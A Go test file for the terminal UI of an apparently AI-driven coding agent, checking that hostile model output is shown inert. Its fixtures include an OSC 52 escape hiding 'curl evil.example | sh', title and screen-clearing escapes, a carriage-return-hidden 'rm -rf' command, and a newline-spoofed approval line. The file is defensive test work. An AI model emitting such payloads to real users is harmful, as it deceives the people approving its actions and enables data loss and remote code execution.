package tui

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"brig/test/fakeprovider"
)

// TestHostileTextInARealTerminal: under tmux (which accepts OSC 52 into its
// paste buffers and OSC 0/2 as the pane title once set-clipboard is on),
// the model's OSC 52, title and screen-clearing escapes are shown as
// symbols: no buffer is created, the title does not change, the text
// before them stays on screen. The control, a plain printf of the same
// OSC 52 in another window, does create a buffer.
func TestHostileTextInARealTerminal(t *testing.T) {
	tm := newTerm(t,
		fakeprovider.Turn{Text: "before the escapes\n\ncopied \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b]2;pwned-title\x07 \x1b[2J\x1b[H end of the answer"},
	)
	tm.launch()
	tm.tmux("set-option", "-g", "set-clipboard", "on")
	tm.tmux("set-option", "-g", "allow-rename", "on")
	tm.waitFor(10*time.Second, "sandbox", "› Ask brig")
	titleBefore := strings.TrimSpace(tm.tmux("display-message", "-p", "-t", "main", "#{pane_title}"))
	tm.typeLine("go")
	s := tm.waitFor(10*time.Second, "end of the answer", "before the escapes", "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇", "␛]2;pwned-title␇", "␛[2J")
	if strings.Contains(s, "pwned") && !strings.Contains(s, "␛]2;pwned-title") {
		t.Errorf("the title text shows outside its inert form:\n%s", s)
	}
	if b := strings.TrimSpace(tm.tmux("list-buffers")); b != "" {
		t.Errorf("the model's OSC 52 set a tmux buffer: %s", b)
	}
	if title := strings.TrimSpace(tm.tmux("display-message", "-p", "-t", "main", "#{pane_title}")); title != titleBefore {
		t.Errorf("the pane title changed from %q to %q", titleBefore, title)
	}

	// Control: the same OSC 52 printed raw in this tmux does set a buffer.
	tm.tmux("new-window", "-d", "-n", "control", `printf '\033]52;c;Y29udHJvbA==\007'; sleep 30`)
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(tm.tmux("list-buffers"), "control") {
		if time.Now().After(deadline) {
			t.Fatalf("the control printf set no buffer: this tmux does not take OSC 52, so the check above proves nothing (buffers: %q)", tm.tmux("list-buffers"))
		}
		time.Sleep(40 * time.Millisecond)
	}
}

// TestApprovalShowsHiddenCharacters: in a real terminal, the prompt for
// `rm -rf src docs tests #\rgo test ./...` shows the whole line with the
// CR as ␍ (it showed `$ go test ./...`), and a write_file path holding a
// newline and text that reads like a line of brig's approval is shown on
// one line with the newline as ␊; each prompt warns of it, and denied,
// nothing runs.
func TestApprovalShowsHiddenCharacters(t *testing.T) {
	for _, c := range []struct {
		name, tool, args, prompt string
		shown                    string
	}{
		{"carriage return", "bash", `{"command":"rm -rf src docs tests #\rgo test ./..."}`, "run the tests", "$ rm -rf src docs tests #␍go test ./..."},
		{"newline in a path", "write_file", `{"path":"docs/notes.md\n  ok: docs/notes.md is on your allow list","content":"hello\n"}`, "add a note", "docs/notes.md␊  ok: docs/notes.md is on your allow list"},
	} {
		t.Run(c.name, func(t *testing.T) {
			tm := newTerm(t,
				fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{tc(c.tool, c.args)}},
				fakeprovider.Turn{Text: "ok"},
			)
			tm.launch()
			tm.waitFor(10*time.Second, "sandbox", "› Ask brig")
			tm.typeLine(c.prompt)
			tm.waitFor(10*time.Second, "approve "+c.tool+"?", c.shown, "⚠ this call holds characters")
			tm.answer("4")
			tm.waitFor(10*time.Second, c.tool+" denied", "ok")
			if _, err := os.Stat(filepath.Join(tm.ws, "docs")); err == nil {
				t.Fatal("denied, yet the write's directory was made")
			}
		})
	}
}

// TestTwoCallsUnderOneID: an answer whose two calls share an id (no API
// sends that; a hostile or broken server can) is run as two calls, each
// asked about and each with its own result, and the terminal UI lives on
// (it crashed on the second question).
func TestTwoCallsUnderOneID(t *testing.T) {
	tm := newTerm(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{
			{ID: "same", Name: "bash", Input: json.RawMessage(`{"command":"touch a.txt"}`)},
			{ID: "same", Name: "bash", Input: json.RawMessage(`{"command":"touch b.txt"}`)},
		}},
		fakeprovider.Turn{Text: "both made"},
	)
	tm.launch()
	tm.waitFor(10*time.Second, "sandbox", "› Ask brig")
	tm.typeLine("make two files")
	tm.waitFor(10*time.Second, "approve bash?", "touch a.txt")
	tm.answer("1")
	tm.waitFor(10*time.Second, "approve bash?", "touch b.txt")
	tm.answer("1")
	tm.waitFor(10*time.Second, "both made")
	for _, f := range []string{"a.txt", "b.txt"} {
		if _, err := os.Stat(filepath.Join(tm.ws, f)); err != nil {
			t.Errorf("%s was not made: %v", f, err)
		}
	}
}
